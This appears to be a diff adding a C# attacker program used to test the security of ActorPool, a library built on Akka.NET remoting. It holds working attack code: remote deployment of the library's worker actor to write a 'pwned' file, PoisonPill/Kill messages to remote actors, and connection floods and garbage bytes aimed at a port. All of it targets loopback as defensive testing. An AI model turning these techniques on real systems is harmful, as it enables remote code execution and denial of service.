@@ -1,0 +1,186 @@
+using System.Globalization;
+using System.Net;
+using System.Net.Sockets;
+using System.Reflection;
+using System.Text.Json;
+using Akka.Actor;
+using Akka.Configuration;
+using Akka.Remote;
+
+// A hostile local process (see Attacker.csproj). Modes:
+//   deploy MARKER ADDRESS...  remote-deploys ActorPool's call-running actor into each ADDRESS with a secret of its own
+//                             choosing, then asks it to write MARKER; prints "deployed ADDRESS" for each implant that
+//                             registered back, then "outcome ran" if MARKER exists, else "outcome did not run".
+//   poison ADDRESS PATH...    sends PoisonPill and Kill to each actor PATH at ADDRESS, by reference and by selection.
+//   flood PORT BIG IDLE       opens BIG connections that announce a 136 MiB frame and send 64 KiB of it, and IDLE that
+//                             send nothing; prints "holding" and keeps them open until stdin ends.
+//   garbage PORT              sends 64 KiB of random bytes and closes.
+// Exit code 0 after the attempt, whatever came of it; 2 for bad arguments.
+return args switch
+{
+    ["deploy", var marker, .. var addresses] when addresses.Length > 0 => await Deploy(marker, addresses),
+    ["poison", var address, .. var paths] when paths.Length > 0 => await Poison(address, paths),
+    ["flood", var port, var big, var idle] => Flood(int.Parse(port, CultureInfo.InvariantCulture), int.Parse(big, CultureInfo.InvariantCulture), int.Parse(idle, CultureInfo.InvariantCulture)),
+    ["garbage", var port] => Garbage(int.Parse(port, CultureInfo.InvariantCulture)),
+    _ => Usage(),
+};
+
+static int Usage()
+{
+    Console.Error.WriteLine("usage: Attacker deploy MARKER ADDRESS... | poison ADDRESS PATH... | flood PORT BIG IDLE | garbage PORT");
+    return 2;
+}
+
+static async Task<int> Deploy(string marker, string[] addresses)
+{
+    using var system = ActorSystem.Create("attacker", SystemConfig(addresses[0]));
+    var registered = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
+    var listener = system.ActorOf(Props.Create(() => new Listener(registered)), "listener");
+    var listenerPath = listener.Path.ToStringWithAddress(((ExtendedActorSystem)system).Provider.DefaultAddress);
+    var workerType = Internal("ActorPool.Remoting.ProcessWorker");
+    var implants = new List<IActorRef>();
+    foreach (var address in addresses)
+    {
+        // ProcessWorker(parentPath, secret, replyKey, initializer, maxPayload, registrationToken, allowList, board): ours to choose.
+        var props = Props.Create(workerType, listenerPath, "attacker-secret", "attacker-key", null, 1L << 20, null, null, null)
+            .WithDeploy(new Deploy(new RemoteScope(Address.Parse(address))));
+        implants.Add(system.ActorOf(props));
+    }
+
+    foreach (var implant in implants)
+    {
+        implant.Tell(WriteFileCall(marker), listener);
+    }
+
+    await Task.Delay(TimeSpan.FromSeconds(5));
+    foreach (var path in Listener.Registered)
+    {
+        Console.WriteLine($"deployed {path}");
+    }
+
+    Console.WriteLine(File.Exists(marker) ? "outcome ran" : "outcome did not run");
+    await system.Terminate();
+    return 0;
+}
+
+static async Task<int> Poison(string address, string[] paths)
+{
+    using var system = ActorSystem.Create("attacker", SystemConfig(address));
+    foreach (var path in paths)
+    {
+        var target = ActorPath.Parse(address + path);
+        ((ExtendedActorSystem)system).Provider.ResolveActorRef(target).Tell(PoisonPill.Instance);
+        ((ExtendedActorSystem)system).Provider.ResolveActorRef(target).Tell(Kill.Instance);
+        system.ActorSelection(target).Tell(PoisonPill.Instance);
+    }
+
+    await Task.Delay(TimeSpan.FromSeconds(3)); // long enough for the association and the messages to go
+    Console.WriteLine("sent");
+    await system.Terminate();
+    return 0;
+}
+
+static int Flood(int port, int big, int idle)
+{
+    var sockets = new List<Socket>();
+    var header = new byte[4];
+    System.Buffers.Binary.BinaryPrimitives.WriteInt32LittleEndian(header, 136 << 20);
+    var junk = new byte[64 << 10];
+    for (var i = 0; i < big + idle; i++)
+    {
+        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+        try
+        {
+            socket.Connect(IPAddress.Loopback, port);
+            if (i < big)
+            {
+                socket.Send(header);
+                socket.Send(junk);
+            }
+        }
+        catch (SocketException)
+        {
+            // refused or reset: the target decided; keep going
+        }
+
+        sockets.Add(socket);
+    }
+
+    Console.WriteLine($"holding {sockets.Count(s => s.Connected)}");
+    Console.Out.Flush();
+    while (Console.In.ReadLine() is not null)
+    {
+    }
+
+    sockets.ForEach(s => s.Dispose());
+    return 0;
+}
+
+static int Garbage(int port)
+{
+    using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+    socket.Connect(IPAddress.Loopback, port);
+    var bytes = new byte[64 << 10];
+    Random.Shared.NextBytes(bytes);
+    try
+    {
+        socket.Send(bytes);
+        Thread.Sleep(500);
+    }
+    catch (SocketException)
+    {
+        // closed on us
+    }
+
+    Console.WriteLine("sent");
+    return 0;
+}
+
+// A call of File.WriteAllText(marker, "pwned") as ActorPool encodes one, with the attacker's own secret.
+static object WriteFileCall(string marker)
+{
+    var describe = Internal("ActorPool.Remoting.CallDescriptor").GetMethod("For", BindingFlags.Public | BindingFlags.Static)!;
+    var descriptor = describe.Invoke(null, [(Action<string, string>)File.WriteAllText, "fn"]);
+    byte[][] arguments = [JsonSerializer.SerializeToUtf8Bytes(marker), JsonSerializer.SerializeToUtf8Bytes("pwned")];
+    return Activator.CreateInstance(Internal("ActorPool.Remoting.CallItem"), "attacker-secret", 1L, descriptor, false, arguments, -1)!;
+}
+
+static Type Internal(string name) => typeof(ActorPool.Executor).Assembly.GetType(name, throwOnError: true)!;
+
+// The transport the target speaks (ActorPool's loopback transport, with a key of this process's own, or DotNetty's
+// TCP), and ActorPool's serializer, so the implant's registration could be read.
+static Config SystemConfig(string address)
+{
+    var loopback = address.StartsWith("akka.loopback://", StringComparison.Ordinal);
+    return ConfigurationFactory.ParseString($$"""
+        akka.loglevel = ERROR
+        akka.stdout-loglevel = ERROR
+        akka.actor.provider = remote
+        akka.actor.serializers.actorpool = "ActorPool.Remoting.ProtocolSerializer, ActorPool"
+        akka.actor.serialization-bindings { "ActorPool.Remoting.IProcessPoolMessage, ActorPool" = actorpool }
+        akka.remote.enabled-transports = [{{(loopback ? "\"akka.remote.loopback\"" : "\"akka.remote.dot-netty.tcp\"")}}]
+        akka.remote.loopback {
+          transport-class = "ActorPool.Remoting.LoopbackTransport, ActorPool"
+          applied-adapters = []
+          hostname = "127.0.0.1"
+          port = 0
+          maximum-frame-size = 136MiB
+        }
+        akka.remote.dot-netty.tcp { hostname = "127.0.0.1", port = 0, maximum-frame-size = 136MiB }
+        """);
+}
+
+/// <summary>Where an implant would register (ActorPool's RegisterWorker) or answer.</summary>
+internal sealed class Listener(TaskCompletionSource<string> registered) : UntypedActor
+{
+    public static readonly System.Collections.Concurrent.ConcurrentBag<string> Registered = [];
+
+    protected override void OnReceive(object message)
+    {
+        if (message.GetType().Name == "RegisterWorker")
+        {
+            Registered.Add(Sender.Path.ToString());
+            registered.TrySetResult(Sender.Path.ToString());
+        }
+    }
+}
